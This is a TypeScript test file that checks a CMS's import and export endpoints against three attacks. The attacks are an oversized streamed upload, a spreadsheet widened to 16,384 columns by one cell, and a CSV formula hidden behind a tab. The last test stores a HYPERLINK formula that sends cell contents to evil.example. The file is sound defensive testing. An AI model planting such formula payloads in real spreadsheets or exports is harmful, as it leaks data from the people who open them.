import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import config from '../src/payload.config.ts'
import { guardedRest } from '../src/security/guardedRest.ts'
import { rest, tokenFor } from './helpers/rest.ts'
import { startTestPayload, type TestPayload } from './helpers/testPayload.ts'

/**
 * Attacks on import and export (issue #12) found by a review of our own work: an unbounded body
 * before the role check, a sheet made 16,384 columns wide by one cell, formulas hidden behind a tab
 * in an exported CSV. Each test states the safe behaviour.
 */
const PASSWORD = 'mat-khau-tan-cong-1'
let t: TestPayload
const token: Record<'editor' | 'contributor', string> = {} as never

beforeAll(async () => {
  process.env.DEMO_PASSWORD = PASSWORD
  process.env.EMAIL_TRANSPORT = 'memory'
  t = await startTestPayload({ seed: true })
  token.editor = await tokenFor(t.payload, 'bientap@thidua.example', PASSWORD)
  token.contributor = await tokenFor(t.payload, 'hoaan@thidua.example', PASSWORD)
})
afterAll(async () => {
  delete process.env.DEMO_PASSWORD
  delete process.env.EMAIL_TRANSPORT
  await t?.cleanup()
})

function form(kind: string, file: Blob, name = 'du-lieu.csv') {
  const data = new FormData()
  data.set('kind', kind)
  data.set('file', file, name)
  return data
}

describe('holes', () => {
  it('a contributor cannot make the CMS read a body of any size (no content-length) before it is refused', async () => {
    const { POST } = guardedRest(config)
    const boundary = '----atk' + Date.now()
    const head = new TextEncoder().encode(`--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nunits\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.csv"\r\nContent-Type: text/csv\r\n\r\n`)
    const tail = new TextEncoder().encode(`\r\n--${boundary}--\r\n`)
    const chunk = new Uint8Array(1024 * 1024).fill(0x61)
    const totalChunks = 40
    let pulled = 0
    let sent = 0
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) controller.enqueue(head)
        if (sent < totalChunks) {
          controller.enqueue(chunk)
          pulled += chunk.byteLength
          sent++
        } else {
          controller.enqueue(tail)
          controller.close()
        }
      },
    })
    const request = new Request('http://localhost/api/import/preview', {
      method: 'POST',
      headers: { Authorization: `JWT ${token.contributor}`, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body,
      duplex: 'half',
    } as RequestInit)
    const res = await POST(request, { params: Promise.resolve({ slug: ['import', 'preview'] }) })
    expect(res.status).toBe(403)
    // Refused before reading: at most the import limit (10 MB) and a little more may be read.
    expect(pulled).toBeLessThanOrEqual(11 * 1024 * 1024)
  })

  it('a 15 KB XLSX with one cell in column XFD is refused for its width, not read 16,384 cells a row', async () => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('x')
    sheet.addRow(['Tên đơn vị', 'Loại đơn vị'])
    sheet.getCell('XFD1').value = 'z'
    for (let i = 0; i < 120; i++) sheet.addRow([`Xã Rộng ${i}`, 'Xã'])
    const file = new Blob([new Uint8Array(await workbook.xlsx.writeBuffer())])
    expect(file.size).toBeLessThan(20_000)
    const res = await rest('POST', '/api/import/preview', { token: token.editor, form: form('units', file, 'x.xlsx') })
    expect(res.status).toBe(422)
    expect(res.body.errors[0].message).toBe('Dòng tiêu đề có 16384 cột; tệp mẫu có dưới 60. Hãy xoá các cột thừa.')
  })

  it('an exported CSV neutralises formulas hidden behind a leading tab or carriage return', async () => {
    const created = await rest('POST', '/api/exemplars?draft=true', {
      token: token.contributor,
      json: { name: '\t=HYPERLINK("http://evil.example/?x="&A1,"Xem")' },
    })
    expect(created.status).toBe(201)
    const res = await rest('GET', `/api/export/exemplars?format=csv&where[id][equals]=${created.body.doc.id}`, { token: token.editor })
    expect(res.status).toBe(200)
    const line = res.text.split('\r\n')[1]!
    const name = line.split(',')[1]!
    expect(name).not.toMatch(/^"?[\t\r]=/)
  })
})
